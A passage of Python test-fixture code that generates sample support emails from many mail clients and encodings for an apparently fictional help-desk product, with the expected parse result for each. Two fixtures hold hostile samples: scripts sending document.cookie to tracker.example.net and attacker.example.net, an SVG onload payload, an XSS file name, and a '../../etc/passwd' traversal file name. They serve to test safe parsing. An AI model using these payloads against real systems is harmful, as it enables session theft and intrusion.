    message_id = "5E7A9C21-3B4D-4F6E-8A1B-2C3D4E5F6A7B@example.com"
    headers = [
        "From: Camila Herrera <camila.herrera@example.com>",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{outer}"',
        "Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))",
        f"Subject: {ew(subject, 'utf-8')}",
        f"Message-Id: <{message_id}>",
        "Date: Tue, 4 Mar 2025 10:43:05 -0300",
        f"To: {SUPPORT}",
        "X-Mailer: Apple Mail (2.3826.400.131.1.6)",
    ]
    return entity(headers, b"\n" + body), entry(
        file="04-apple-mail-inline-screenshot.eml",
        client="Apple Mail (macOS 15)",
        shape="multipart/alternative { text/plain, multipart/related { text/html, image/png } }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="camila.herrera@example.com",
        sender_name="Camila Herrera",
        subject=subject,
        body_must_contain=[
            "No se pudo procesar la solicitud (código 502)",
            "el pedido queda en estado pendiente",
            "Me pasó con los pedidos 7731 y 7732.",
        ],
        attachments=[attachment(image_name, "image/png", image, inline=True)],
        notes=(
            "The plain part carries Apple's placeholder line '<Captura de pantalla ….png>'; the "
            "HTML references the image as cid:" + cid + ". The PNG is a real 64x40 image."
        ),
    )


@message
def iphone_reply():
    subject = "Re: [PUL-000003] Cambio de plan"
    plain = lines(
        "Perfecto, confirmo el cambio al plan Empresarial a partir de abril. Por favor facturen "
        "a la misma razón social y al mismo correo de siempre.",
        "",
        "Enviado desde mi iPhone",
        "",
        "> El 4 mar 2025, a las 9:02, Soporte Pulso <soporte@pulso.example> escribió:",
        "> ",
        "> \ufeffHola Diego:",
        "> ",
        "> Podemos cambiar su cuenta al plan Empresarial desde el próximo ciclo de facturación. "
        "¿Nos confirma que desea hacer el cambio?",
        "> ",
        "> Saludos,",
        "> Soporte Pulso",
        "",
    )
    message_id = "7C2E9A4B-1D3F-4E5A-B6C7-8D9E0F1A2B3C@example.net"
    headers = [
        "Content-Type: text/plain;",
        "\tcharset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        f"From: {ew('Diego Fernández', 'utf-8')} <diego.fernandez@example.net>",
        "Mime-Version: 1.0 (1.0)",
        f"Subject: {subject}",
        "Date: Tue, 4 Mar 2025 09:27:51 -0600",
        f"Message-Id: <{message_id}>",
        "References: <reply-2.pul-000003@pulso.example>",
        "In-Reply-To: <reply-2.pul-000003@pulso.example>",
        f"To: Soporte Pulso <{SUPPORT}>",
        "X-Mailer: iPhone Mail (22D72)",
    ]
    return entity(headers, qp(plain)), entry(
        file="05-iphone-reply-plain.eml",
        client="iPhone Mail (iOS 18)",
        shape="single text/plain, UTF-8 quoted-printable",
        kind="reply",
        expected_outcome="threaded",
        message_id=message_id,
        sender="diego.fernandez@example.net",
        sender_name="Diego Fernández",
        subject=subject,
        thread_ref={"in_reply_to": "<reply-2.pul-000003@pulso.example>"},
        requires_ticket={
            "reference": "PUL-000003",
            "customer_email": "diego.fernandez@example.net",
        },
        body_must_contain=[
            "confirmo el cambio al plan Empresarial a partir de abril",
            "Por favor facturen a la misma razón social",
        ],
        body_must_not_contain=[
            "Podemos cambiar su cuenta al plan Empresarial",
            "¿Nos confirma que desea hacer el cambio?",
        ],
        notes=(
            "As iOS really writes it: the attribution line is itself '> '-prefixed ('> El 4 mar "
            "2025, a las 9:02, … escribió:'), and the first quoted line starts with U+FEFF. The "
            "'Enviado desde mi iPhone' footer sits between the new text and the quote (a desk "
            "may drop it). Threads by In-Reply-To (desk's own reply-2 id) or the subject "
            "reference."
        ),
    )


@message
def samsung_english():
    subject = "Can't log in to the mobile app"
    text = (
        'Hi, since this morning the app keeps saying "Invalid session" right after I enter my '
        "password. I already reinstalled it and restarted the phone. Can you reset my access? "
        "My username is mbrown."
    )
    plain = lines(text, "", "", "", "Sent from my Galaxy", "")
    html_text = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>'
        f'<body dir="auto"><div dir="auto">{html.escape(text)}</div><div dir="auto"><br></div>'
        '<div dir="auto"><br></div><div dir="auto"><br></div><div id="composer_signature" '
        'dir="auto"><div style="font-size:85%;color:#575757" dir="auto">Sent from my Galaxy'
        "</div></div></body></html>"
    )
    boundary = "--_com.samsung.android.email_1741133133418650"
    message_id = "tx9k2m4p7q1w3e5r6t8y0u2i.1741133133418@email.android.com"
    headers = [
        "MIME-Version: 1.0",
        "Date: Tue, 04 Mar 2025 19:05:33 -0500",
        f"Subject: {subject}",
        f"Message-ID: <{message_id}>",
        "Importance: normal",
        "From: Michael Brown <michael.brown@example.com>",
        f"To: {SUPPORT}",
        'Content-Type: multipart/alternative; boundary="' + boundary + '"',
        "X-Priority: 3",
    ]
    body = multipart(
        boundary,
        [
            entity(
                ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64"],
                b64(plain.replace("\n", "\r\n").encode()),
            ),
            entity(
                ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64"],
                b64(html_text.encode()),
            ),
        ],
    )
    return entity(headers, b"\n" + body), entry(
        file="06-samsung-email-new-english.eml",
        client="Samsung Email (Android)",
        shape="multipart/alternative, UTF-8 base64 in both parts",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="michael.brown@example.com",
        sender_name="Michael Brown",
        subject=subject,
        body_must_contain=[
            'the app keeps saying "Invalid session"',
            "Can you reset my access?",
            "My username is mbrown.",
        ],
        notes="English. Footer 'Sent from my Galaxy' (a desk may drop it). Both parts base64.",
    )


@message
def thunderbird_flowed_latin1():
    subject = "Cambio de titularidad de la cuenta y facturación"
    text = lines(
        "Buenos días,",
        "",
        "Les escribo porque necesito cambiar la titularidad de la cuenta 30-1187 a nombre de la "
        "nueva sociedad, Peña Hermanos S.R.L., a partir del 1 de abril.",
        "",
        "¿Qué documentación tengo que enviarles? Tengo el estatuto y la constancia de CUIT en PDF.",
        "",
        "También quisiera saber si las facturas de marzo van a salir con la razón social "
        "anterior o con la nueva.",
        "",
        "Saludos,",
        "",
        "-- ",
        "Raúl Peña",
        "Peña Hermanos S.R.L.",
        "Mendoza, Argentina",
        "",
    )
    message_id = "6f3b2a1c-9d8e-4f7a-b6c5-0e1d2c3b4a59@example.net"
    headers = [
        f"Message-ID: <{message_id}>",
        "Date: Wed, 5 Mar 2025 08:51:16 -0300",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: es-AR",
        f"To: {SUPPORT}",
        f"From: {ew('Raúl Peña')} <raul.pena@example.net>",
        f"Subject: {ew(subject)}",
        "Content-Type: text/plain; charset=ISO-8859-1; format=flowed",
        "Content-Transfer-Encoding: 8bit",
    ]
    return entity(headers, flowed(text).encode("iso-8859-1")), entry(
        file="07-thunderbird-flowed-latin1.eml",
        client="Thunderbird 128 (Windows)",
        shape="single text/plain; charset=ISO-8859-1; format=flowed; 8bit",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="raul.pena@example.net",
        sender_name="Raúl Peña",
        subject=subject,
        body_must_contain=[
            "¿Qué documentación tengo que enviarles?",
            "necesito cambiar la titularidad de la cuenta 30-1187",
            "Mendoza, Argentina",
        ],
        notes=(
            "format=flowed: soft line breaks end in a space (lines wrapped at 72); an unflowing "
            "desk joins them. Phrases are each within one physical line. Raw 8-bit Latin-1 body; "
            "headers in UTF-8 encoded words (as Thunderbird does)."
        ),
    )


@message
def yahoo_html_only():
    subject = "Quiero cancelar mi suscripción"
    wrap = "ydp5c1a2b3cyahoo-style-wrap"

    def div(text):
        inner = html.escape(text, quote=False) if text else "<br>"
        return f'<div dir="ltr" data-setdir="false">{inner}</div>'

    html_text = (
        "<html><head>"
        f'<style type="text/css">.{wrap}{{font-family:Helvetica Neue, Helvetica, Arial, '
        "sans-serif;font-size:13px}.ydp5c1a2b3cpromo{display:none}</style>"
        '<script type="text/javascript">document.location="https://tracker.example.net/steal?c="'
        "+document.cookie;</script>"
        f'</head><body><div class="{wrap}" style="font-family:Helvetica Neue, Helvetica, Arial, '
        'sans-serif;font-size:13px;">'
        + div("Hola,")
        + div("")
        + div(
            "Quiero cancelar mi suscripción al plan Pyme a partir de este mes. Ya no vamos a usar "
            "el servicio porque cerramos la sucursal de Rosario."
        )
        + div("")
        + '<div dir="ltr" data-setdir="false">Leí los términos en <a href="https://pulso.example'
        '/terminos" rel="nofollow" target="_blank">https://pulso.example/terminos</a></div>'
        + div("¿Me confirman que no habrá más débitos automáticos en mi tarjeta?")
        + div("")
        + div("Gracias,")
        + div("Mariana Gómez")
        + '<img src="https://tracker.example.net/p.gif" width="1" height="1" alt="">'
        "</div></body></html>"
    )
    message_id = "1823650417.2291874.1741184527311@mail.yahoo.com"
    headers = [
        "Date: Wed, 5 Mar 2025 14:22:07 +0000 (UTC)",
        f"From: {ew('Mariana Gómez')} <mariana.gomez@example.com>",
        f'To: "{SUPPORT}" <{SUPPORT}>',
        f"Message-ID: <{message_id}>",
        f"Subject: {ew(subject)}",
        "MIME-Version: 1.0",
        "Content-Type: text/html; charset=UTF-8",
        "Content-Transfer-Encoding: quoted-printable",
        "References: <1823650417.2291874.1741184527311.ref@mail.yahoo.com>",
        "X-Mailer: WebService/1.1.23369 YMailNorrin",
    ]
    return entity(headers, qp(html_text)), entry(
        file="08-yahoo-html-only.eml",
        client="Yahoo Mail (web)",
        shape="single text/html (no plain part), UTF-8 quoted-printable, <style>, <script>, pixel",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="mariana.gomez@example.com",
        sender_name="Mariana Gómez",
        subject=subject,
        body_must_contain=[
            "Quiero cancelar mi suscripción al plan Pyme a partir de este mes.",
            "¿Me confirman que no habrá más débitos automáticos en mi tarjeta?",
            "https://pulso.example/terminos",
        ],
        body_must_not_contain=[
            "document.cookie",
            "tracker.example.net",
            "font-family:Helvetica Neue",
        ],
        notes=(
            "HTML only: the desk must turn it into text with <style>/<script> contents dropped "
            "and never render the HTML (no script, no remote pixel fetch). Yahoo's References "
            "carries a '.ref' id of the message itself on a NEW message: it threads to nothing."
        ),
    )


@message
def html_only_latin9_entities():
    subject = "Cargo de 1.250 € no reconocido"
    html_text = lines(
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">',
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15">',
        "<title>Consulta de cargo</title>",
        "<style>body{font-family:Verdana,Arial;font-size:12px} .pie{color:#888888}</style>",
        "</head>",
        "<body>",
        "<p>Estimados se&ntilde;ores:</p>",
        "<p>En el extracto bancario de febrero figura un cargo de 1.250&nbsp;&#8364; con el "
        "concepto &laquo;PULSO SUSCRIPCION ANUAL&raquo;, pero nuestro contrato es mensual de "
        "104,17 € m&aacute;s IVA.</p>",
        "<p>Les ruego que revisen el cobro y nos env&iacute;en la factura correspondiente o el "
        "abono. Tambi&eacute;n necesitamos saber si el pr&oacute;ximo cargo ser&aacute; el "
        "correcto.</p>",
        "<p>Atentamente,<br>",
        "Sofía Castro<br>",
        "Departamento de Contabilidad<br>",
        "Talleres Castro S.L. &mdash; Valencia</p>",
        '<p class="pie">Este mensaje ha sido generado por el ERP de Talleres Castro S.L.</p>',
        "</body></html>",
        "",
    )
    message_id = "a3f9c2e17b5d4e08b6a1c3d5e7f90214@erp.example.org"
    headers = [
        "Return-Path: <contabilidad@example.org>",
        "Date: Thu, 6 Mar 2025 10:05:12 +0100",
        f"To: {SUPPORT}",
        f"From: {ew('Sofía Castro - Contabilidad', 'ISO-8859-15')} <contabilidad@example.org>",
        f"Subject: {ew(subject, 'ISO-8859-15')}",
        f"Message-ID: <{message_id}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        "Content-Type: text/html; charset=iso-8859-15",
        "Content-Transfer-Encoding: 8bit",
    ]
    return entity(headers, html_text.encode("iso-8859-15")), entry(
        file="09-html-only-latin9-entities.eml",
        client="Company ERP via PHPMailer (a person's mailbox, not a robot)",
        shape="single text/html; charset=iso-8859-15; 8bit; HTML entities",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="contabilidad@example.org",
        sender_name="Sofía Castro - Contabilidad",
        subject=subject,
        body_must_contain=[
            "figura un cargo de 1.250 € con el concepto «PULSO SUSCRIPCION ANUAL»",
            "nuestro contrato es mensual de 104,17 € más IVA.",
            "Les ruego que revisen el cobro y nos envíen la factura",
            "Sofía Castro",
        ],
        body_must_not_contain=["font-family:Verdana", "Consulta de cargo"],
        notes=(
            "ISO-8859-15: raw byte 0xA4 is € (ISO-8859-1 would give ¤), in the subject's encoded "
            "word and in the body. Entities &ntilde; &nbsp; &#8364; &laquo; &eacute; &mdash;. "
            "Phrases assume whitespace runs (NBSP included) collapse to one space. <title> and "
            "<style> are not text."
        ),
    )


@message
def japanese_iso2022jp():
    subject = "請求書の金額について"
    text = lines(
        "Pulso サポート御中",
        "",
        "いつもお世話になっております。",
        "株式会社サクラ物流の田中です。",
        "",
        "３月分の請求書の金額が契約内容と異なっているようです。",
        "契約では月額２００ドルですが、請求書には３５０ドルと記載されています。",
        "",
        "お手数ですが、ご確認のほどよろしくお願いいたします。",
        "",
        "--",
        "田中 健",
        "株式会社サクラ物流　経理部",
        "",
    )
    message_id = "20250306162045.8A3C.4F1B2E7D@example.net"
    headers = [
        "Return-Path: <k.tanaka@example.net>",
        "Date: Thu, 06 Mar 2025 16:20:45 +0900",
        f"From: {ew('田中 健', 'ISO-2022-JP', 'B')} <k.tanaka@example.net>",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject, 'ISO-2022-JP', 'B')}",
        f"Message-Id: <{message_id}>",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="ISO-2022-JP"',
        "Content-Transfer-Encoding: 7bit",
        "X-Mailer: Becky! ver. 2.81.05 [ja]",
    ]
    return entity(headers, text.encode("iso2022_jp")), entry(
        file="10-japanese-iso2022jp.eml",
        client="Becky! Internet Mail (Windows, Japanese)",
        shape="single text/plain; charset=ISO-2022-JP; 7bit; RFC 2047 B-encoded subject and name",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="k.tanaka@example.net",
        sender_name="田中 健",
        subject=subject,
        body_must_contain=[
            "請求書の金額が契約内容と異なっているようです。",
            "請求書には３５０ドルと記載されています。",
        ],
        notes="Japanese (invoice amount differs from the contract). 7-bit JIS escapes throughout.",
    )


@message
def russian_koi8r():
    subject = "Не приходит письмо для сброса пароля"
    text = lines(
        "Здравствуйте!",
        "",
        "Я не могу войти в личный кабинет: письмо для сброса пароля не приходит уже второй день.",
        'Папку "Спам" я проверил, там тоже ничего нет.',
        "",
        'Мой логин: dsokolov, компания ООО "Северный ветер".',
        "Пожалуйста, помогите восстановить доступ.",
        "",
        "-- ",
        "С уважением,",
        " Дмитрий                          mailto:dmitry.sokolov@example.org",
        "",
    )
    message_id = "1469833870.20250306124803@example.org"
    headers = [
        "Date: Thu, 6 Mar 2025 12:48:03 +0300",
        f"From: {ew('Дмитрий Соколов', 'koi8-r', 'B')} <dmitry.sokolov@example.org>",
        "X-Mailer: The Bat! (v11.2.1) Professional",
        "Reply-To: " + ew("Дмитрий Соколов", "koi8-r", "B") + " <dmitry.sokolov@example.org>",
        "X-Priority: 3 (Normal)",
        f"Message-ID: <{message_id}>",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject, 'koi8-r', 'B')}",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=koi8-r",
        "Content-Transfer-Encoding: base64",
    ]
    return entity(headers, b64(text.replace("\n", "\r\n").encode("koi8_r"))), entry(
        file="11-russian-koi8r-base64.eml",
        client="The Bat! (Windows, Russian)",
        shape="single text/plain; charset=koi8-r; base64; RFC 2047 B-encoded KOI8-R subject",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="dmitry.sokolov@example.org",
        sender_name="Дмитрий Соколов",
        subject=subject,
        body_must_contain=[
            "письмо для сброса пароля не приходит уже второй день",
            "Пожалуйста, помогите восстановить доступ.",
        ],
        notes=(
            "Russian (password-reset e-mail never arrives). The Bat! sets Reply-To equal to "
            "From. KOI8-R has no guillemets, hence the straight quotes."
        ),
    )


@message
def gmail_pdf():
    subject = "Cobro incorrecto en la factura de marzo"
    paragraphs = [
        "Buenas tardes,",
        "",
        "En la factura de marzo nos cobraron 12 licencias, pero desde febrero tenemos solo 8 "
        "usuarios activos. Adjunto la factura para que la revisen.",
        "",
        "¿Me pueden enviar una factura corregida?",
        "",
        "Gracias,",
        "Andrés Villalobos",
        "Gerente de Operaciones",
    ]
    plain = lines(*paragraphs, "")
    pdf = make_pdf(
        [
            "FACTURA A  0001-00004471",
            "Fecha: 01/03/2025",
            "Cliente: Transportes Villalobos (20-4471)",
            "Licencia Profesional x 12 .... USD 420,00",
            "Total .......................... USD 420,00",
        ]
    )
    outer, inner = "000000000000e9a4b1062f6d8c55", "000000000000e9a4af062f6d8c53"
    body = multipart(
        outer,
        [
            entity(
                [f'Content-Type: multipart/alternative; boundary="{inner}"'],
                b"\n" + gmail_alternative(inner, plain, gmail_html(paragraphs)),
            ),
            entity(
                [
                    'Content-Type: application/pdf; name="factura-marzo.pdf"',
                    'Content-Disposition: attachment; filename="factura-marzo.pdf"',
                    "Content-Transfer-Encoding: base64",
                    "Content-ID: <f_m7xq2k9y0>",
                    "X-Attachment-Id: f_m7xq2k9y0",
                ],
                b64(pdf),
            ),
        ],
    )
    message_id = "CAGq5vN2hB8e+Rk1yWmT0p4ZsLx7uQ3dC9jFaH6oE_iV2nGtPw@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        f"From: {ew('Andrés Villalobos')} <andres.villalobos@example.com>",
        "Date: Thu, 6 Mar 2025 15:31:02 -0600",
        f"Message-ID: <{message_id}>",
        f"Subject: {subject}",
        f"To: {SUPPORT}",
        f'Content-Type: multipart/mixed; boundary="{outer}"',
    ]
    return entity(headers, b"\n" + body), entry(
        file="12-gmail-pdf-attachment.eml",
        client="Gmail web",
        shape="multipart/mixed { multipart/alternative, application/pdf (base64) }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="andres.villalobos@example.com",
        sender_name="Andrés Villalobos",
        subject=subject,
        body_must_contain=[
            "En la factura de marzo nos cobraron 12 licencias",
            "¿Me pueden enviar una factura corregida?",
        ],
        attachments=[attachment("factura-marzo.pdf", "application/pdf", pdf)],
        notes="The PDF is a valid one-page PDF 1.4 (correct xref offsets).",
    )


@message
def thunderbird_encoded_filenames():
    subject = "Cotización y orden de compra para ampliar licencias"
    xlsx_name = "cotización 2025.xlsx"
    docx_name = "Orden de compra Nº 4471 — revisión.docx"
    xlsx, docx = make_xlsx(), make_docx()
    text = lines(
        "Hola,",
        "",
        "Les envío la cotización que nos pasaron y la orden de compra firmada para ampliar de 8 a "
        "15 licencias Profesional. Necesitamos que las nuevas licencias estén activas antes del "
        "lunes 10.",
        "",
        "Quedo atenta.",
        "",
        "-- ",
        "Paula Ibáñez",
        "Coordinadora de Sistemas",
        "",
    )
    xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    docx_word = ew(docx_name, "UTF-8", "B")
    boundary = "------------0nV8d3XoQk2PZr4Tb7YcLs1E"
    body = multipart(
        boundary,
        [
            entity(
                [
                    "Content-Type: text/plain; charset=UTF-8; format=flowed",
                    "Content-Transfer-Encoding: 8bit",
                ],
                flowed(text).encode(),
            ),
            entity(
                [
                    f"Content-Type: {xlsx_type};",
                    f' name="{ew(xlsx_name)}"',
                    "Content-Disposition: attachment; filename*=UTF-8''cotizaci%C3%B3n%202025.xlsx",
                    "Content-Transfer-Encoding: base64",
                ],
                b64(xlsx) + b"\n",
            ),
            entity(
                [
                    f"Content-Type: {docx_type};",
                    f' name="{docx_word}"',
                    "Content-Disposition: attachment;",
                    f' filename="{docx_word}"',
                    "Content-Transfer-Encoding: base64",
                ],
                b64(docx) + b"\n",
            ),
        ],
        preamble="This is a multi-part message in MIME format.\n",
    )
    message_id = "0b8e4c2a-5f1d-4a3b-9c7e-2d6f8a1b3c5e@example.org"
    headers = [
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        f"Message-ID: <{message_id}>",
        "Date: Fri, 7 Mar 2025 09:14:40 -0500",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: es-ES",
        f"To: {SUPPORT}",
        f"From: {ew('Paula Ibáñez')} <paula.ibanez@example.org>",
        f"Subject: {ew(subject)}",
    ]
    return entity(headers, body), entry(
        file="13-thunderbird-rfc2231-rfc2047-filenames.eml",
        client="Thunderbird 128 (Linux)",
        shape="multipart/mixed { text/plain flowed, xlsx (RFC 2231 filename*), docx (RFC 2047) }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="paula.ibanez@example.org",
        sender_name="Paula Ibáñez",
        subject=subject,
        body_must_contain=[
            "Les envío la cotización que nos pasaron",
            "para ampliar de 8 a 15 licencias Profesional.",
            "Quedo atenta.",
        ],
        attachments=[
            attachment(xlsx_name, xlsx_type, xlsx),
            attachment(docx_name, docx_type, docx),
        ],
        notes=(
            "xlsx: Content-Disposition filename*=UTF-8''… (RFC 2231), Content-Type name= an "
            "RFC 2047 word, as Thunderbird writes it. docx: RFC 2047 B-encoded word inside the "
            "quoted filename= and name= (how Gmail/Outlook name files; not RFC-conformant but "
            "universal). Both are valid stored ZIP/OOXML files."
        ),
    )


@message
def dangerous_attachments():
    subject = "Factura pendiente de pago - documentos adjuntos"
    text = lines(
        "Buenas noches,",
        "",
        "Adjunto las facturas pendientes y el detalle de pago. Por favor ábranlas desde el "
        "navegador para ver el detalle completo.",
        "",
        "Saludos,",
        "Departamento de Facturación",
        "",
    )
    page = (
        "<!DOCTYPE html><html><head><title>Factura 4471</title></head><body>"
        "<h1>Factura 4471</h1><p>Cargando detalle…</p>"
        "<script>fetch('https://attacker.example.net/c?'+document.cookie)</script>"
        "</body></html>\n"
    ).encode()
    svg = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" '
        b'onload="alert(document.domain)"><rect width="120" height="40" fill="#0a7"/>'
        b"<script>alert('svg')</script></svg>\n"
    )
    jpeg = (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + pseudo("jpeg-body", 96)
        + b"\xff\xd9"
    )
    passwd = b"root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:nobody:/:/usr/sbin/nologin\n"
    xss_name = '"><svg onload=alert(1)>.jpg'
    quoted_xss = xss_name.replace('"', '\\"')
    boundary = "----=_MIME_BOUNDARY_000_48213"
    body = multipart(
        boundary,
        [
            entity(
                ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"],
                text.encode(),
            ),
            entity(
                [
                    'Content-Type: text/html; name="factura-4471.html"',
                    'Content-Disposition: attachment; filename="factura-4471.html"',
                    "Content-Transfer-Encoding: BASE64",
                ],
                b64(page),
            ),
            entity(
                [
                    'Content-Type: image/svg+xml; name="logo.svg"',
                    'Content-Disposition: attachment; filename="logo.svg"',
                    "Content-Transfer-Encoding: BASE64",
                ],
                b64(svg),
            ),
            entity(
                [
                    f'Content-Type: image/jpeg; name="{quoted_xss}"',
                    f'Content-Disposition: attachment; filename="{quoted_xss}"',
                    "Content-Transfer-Encoding: BASE64",
                ],
                b64(jpeg),
            ),
            entity(
                [
                    'Content-Type: application/octet-stream; name="../../etc/passwd"',
                    'Content-Disposition: attachment; filename="../../etc/passwd"',
                    "Content-Transfer-Encoding: BASE64",
                ],
                b64(passwd),
            ),
        ],
        preamble="This is a multi-part message in MIME format.\n\n",
    )
    message_id = "20250307021357.048213@mail.example.net"
    headers = [
        "Received: from [203.0.113.45] (unknown [203.0.113.45])",
        "\tby mx.pulso.example (Postfix) with ESMTP id 4Z8h1K0mQXz9sPd",
        f"\tfor <{SUPPORT}>; Fri,  7 Mar 2025 02:13:58 +0000 (UTC)",
        "Date: Fri, 07 Mar 2025 02:13:57 +0000",
        f"To: {SUPPORT}",
        "From: Facturacion Proveedor <facturas@example.net>",
        f"Subject: {subject}",
        f"Message-Id: <{message_id}>",
        "X-Mailer: swaks v20240103.0 jetmore.org/john/code/swaks/",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
    ]
    return entity(headers, b"\n" + body), entry(
        file="14-dangerous-attachments.eml",
        client="swaks (scripted SMTP), hostile sender",
        shape="multipart/mixed { text/plain, text/html + image/svg+xml with script, "
        "hostile file names }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="facturas@example.net",
        sender_name="Facturacion Proveedor",
        subject=subject,
        body_must_contain=["Adjunto las facturas pendientes y el detalle de pago."],
        body_must_not_contain=["document.cookie", "alert(document.domain)"],
        attachments=[
            attachment("factura-4471.html", "text/html", page),
            attachment("logo.svg", "image/svg+xml", svg),
            attachment(xss_name, "image/jpeg", jpeg),
            attachment("../../etc/passwd", "application/octet-stream", passwd),
        ],
        notes=(
            "Store all four, serve none as runnable content: download only "
            "(Content-Disposition: attachment, X-Content-Type-Options: nosniff, a safe type, "
            "or a sandboxed origin). The file name is data: never a path (no directory "
            "traversal with '../../etc/passwd'), never unescaped HTML ('\"><svg onload=…>.jpg', "
            "which arrives as a backslash-escaped quoted-string); `filename` is the name as "
            "sent, the stored name is the desk's cleaned one (e.g. 'passwd'). The .jpg is "
            "JFIF-looking bytes, "
            "not a decodable image. Transfer encoding written as 'BASE64' (case-insensitive)."
        ),
    )


@message
def gmail_android_zero_byte():
    subject = "La app se cierra al abrir reportes"
    paragraphs = [
        "Hola, cada vez que abro la sección Reportes en la app de Android se cierra sola.",
        "",
        "Les mando el archivo de registro que genera la app, aunque creo que salió vacío.",
        "",
        "Tomás Aguilar",
    ]
    plain = lines(*paragraphs, "")
    html_text = (
        '<div dir="auto">'
        + "".join(
            '<div dir="auto"><br></div>' if not p else f'<div dir="auto">{html.escape(p)}</div>'
            for p in paragraphs
        )
        + "</div>\n"
    )
    outer, inner = "00000000000023b9d7062f7a4e18", "00000000000023b9d5062f7a4e16"
    body = multipart(
        outer,
        [
            entity(
                [f'Content-Type: multipart/alternative; boundary="{inner}"'],
                b"\n" + gmail_alternative(inner, plain, html_text),
            ),
            entity(
                [
                    'Content-Type: application/octet-stream; name="registro-errores.log"',
                    'Content-Disposition: attachment; filename="registro-errores.log"',
                    "Content-Transfer-Encoding: base64",
                    "Content-ID: <f_m7yq0t3v0>",
                    "X-Attachment-Id: f_m7yq0t3v0",
                ],
                b"",
            ),
        ],
    )
    message_id = "CAM9vK2dT4xF7+pLw1Hq8ZrN5sYb0uEj3oGc6aVi_mRkQ2nW@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        f"From: {ew('Tomás Aguilar')} <tomas.aguilar@example.com>",
        "Date: Fri, 7 Mar 2025 13:02:27 -0500",
        f"Message-ID: <{message_id}>",
        f"Subject: {subject}",
        f"To: {SUPPORT}",
        f'Content-Type: multipart/mixed; boundary="{outer}"',
    ]
    return entity(headers, b"\n" + body), entry(
        file="15-gmail-android-zero-byte-attachment.eml",
        client="Gmail for Android",
        shape="multipart/mixed { multipart/alternative, application/octet-stream of 0 bytes }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="tomas.aguilar@example.com",
        sender_name="Tomás Aguilar",
        subject=subject,
        body_must_contain=[
            "cada vez que abro la sección Reportes en la app de Android",
            "aunque creo que salió vacío",
        ],
        attachments=[attachment("registro-errores.log", "application/octet-stream", b"")],
        notes=(
            "The attachment's base64 body is empty: a zero-byte file. Store it as an empty "
            "file or skip it, but do not crash or quarantine the message. Gmail's mobile app "
            'adds no footer; its HTML uses dir="auto".'
        ),
    )


@message
def gmail_internal_forward():
    subject = "Fwd: Cobro doble en mi tarjeta"
    note = [
        "Hola equipo, les reenvío el reclamo que llegó al buzón de ventas. El cliente dice que "
        "le cobramos dos veces la renovación anual. ¿Lo pueden tomar?",
        "",
        "Gracias,",
        "Valentina",
    ]
    original = [
        "Buenas tardes. Hoy me llegaron dos cargos de USD 480 por la renovación anual del plan "
        "Profesional. Solo autoricé uno. Necesito que me devuelvan el segundo cargo cuanto antes.",
        "",
        "Ramiro Quispe",
        "Lima, Perú",
    ]
    plain = lines(
        *note,
        "",
        "---------- Forwarded message ---------",
        "De: Ramiro Quispe <ramiro.quispe@example.com>",
        "Date: vie, 28 feb 2025 a las 18:40",
        "Subject: Cobro doble en mi tarjeta",
        "To: <ventas@pulso.example>",
        "",
        "",
        *original,
        "",
    )
    forward_html = (
        '<br><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" '
        'class="gmail_attr">---------- Forwarded message ---------<br>De: <strong '
        'class="gmail_sendername" dir="auto">Ramiro Quispe</strong> <span dir="auto">&lt;<a '
        'href="mailto:ramiro.quispe@example.com">ramiro.quispe@example.com</a>&gt;</span><br>'
        "Date: vie, 28 feb 2025 a las 18:40<br>Subject: Cobro doble en mi tarjeta<br>To: &lt;"
        '<a href="mailto:ventas@pulso.example">ventas@pulso.example</a>&gt;<br></div><br><br>'
        + gmail_html(original).rstrip("\n")
        + "</div>"
    )
    html_text = gmail_html(note)[:-7] + forward_html + "</div>\n"
    boundary = "0000000000004f8e2b0630a1c7d9"
    message_id = "CAK7pWm3Lr9+qTn2VxE8bHs5YgJ0dR4uC1oZfA6kN_wMi7tBe@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        f"From: {ew('Valentina Ríos')} <valentina.rios@pulso.example>",
        "Date: Mon, 10 Mar 2025 09:05:40 -0500",
        f"Message-ID: <{message_id}>",
